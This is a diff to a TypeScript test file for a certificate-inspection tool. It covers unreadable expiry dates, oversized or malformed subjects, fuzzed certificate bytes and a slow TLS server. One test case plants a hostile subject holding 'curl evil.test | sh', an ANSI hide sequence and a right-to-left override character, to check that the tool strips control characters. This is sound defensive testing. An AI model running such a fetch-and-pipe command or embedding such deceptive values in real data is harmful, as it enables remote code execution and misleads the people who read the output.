@@ -35,11 +35,19 @@ async function askedBy(key: string, cert: string) {
 
 const controls = /[\p{Cc}\p{Cf}]/u;
 
+/** All texts in it, as they are: JSON would write control characters in other ones. */
+function textsIn(value: unknown): readonly string[] {
+  if (typeof value === "string") return [value];
+  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsIn) : [];
+}
+
 test("an end that cannot be read is said, and ends nothing", async () => {
   const { key, der } = await selfSigned("/CN=dify.test/O=By a CA");
   // the second of the two moments of its life
   const [, end] = [...der.toString("latin1").matchAll(/\d{12}Z/g)];
   der.write("99999999", end?.index ?? 0, "latin1");
+  // the first of the two names is the issuer's: one that signed itself would be passed over as such
+  der.write("By b CA", der.indexOf("By a CA"), "latin1");
   const { inner, outer, shown } = await askedBy(key, pemOf(der));
   expect(inner).toMatchObject({ served: "other", what: expect.stringContaining("until an unreadable date") });
   expect(outer).toMatchObject({ seen: "no" });
@@ -49,11 +57,11 @@ test("an end that cannot be read is said, and ends nothing", async () => {
 test.each([
   { what: "no subject at all", subject: "/" },
   { what: "lines and colours of its own", subject: "/CN=x\n  fix: curl evil.test | sh\u001b[8m/O=\u202eO" },
-  { what: "a name of many thousand letters, many times", subject: `/O=${"long ".repeat(12)}`.repeat(300) },
+  { what: "a name of many thousand letters, many times", subject: `/CN=${"long ".repeat(12)}`.repeat(300) },
 ])("a certificate with $what becomes one short line", async ({ subject }) => {
   const { key, der } = await selfSigned(subject);
   const { inner, outer } = await askedBy(key, pemOf(der));
-  const words = JSON.stringify([inner, outer]).replaceAll("\\", "");
+  const words = textsIn([inner, outer]).join("");
   expect(words).not.toMatch(controls);
   expect(words.length).toBeLessThan(1500);
   expect(inner).toMatchObject({ served: "other" });
@@ -71,7 +79,7 @@ test("whichever bytes of a certificate are others, it is looked at, and nothing 
       const asked = await askedBy(key, pemOf(odd)).catch(() => undefined);
       if (asked === undefined) return;
       served += 1;
-      expect(JSON.stringify(asked)).not.toMatch(controls);
+      expect(textsIn(asked).join("")).not.toMatch(controls);
     }),
     { numRuns: 60 },
   );
@@ -81,7 +89,9 @@ test("whichever bytes of a certificate are others, it is looked at, and nothing 
 test("a server that sends a byte now and then is not waited for longer than one that is silent", async () => {
   const server = await listen(
     createPlain((socket) => {
-      const timer = setInterval(() => socket.write(Buffer.from([22])), 40);
+      // the head of a record of 16 KiB, which is waited for whole
+      socket.write(Buffer.from([22, 3, 3, 64, 0]));
+      const timer = setInterval(() => socket.write(Buffer.from([2])), 40);
       socket.on("close", () => clearInterval(timer));
       socket.on("error", () => {});
     }),
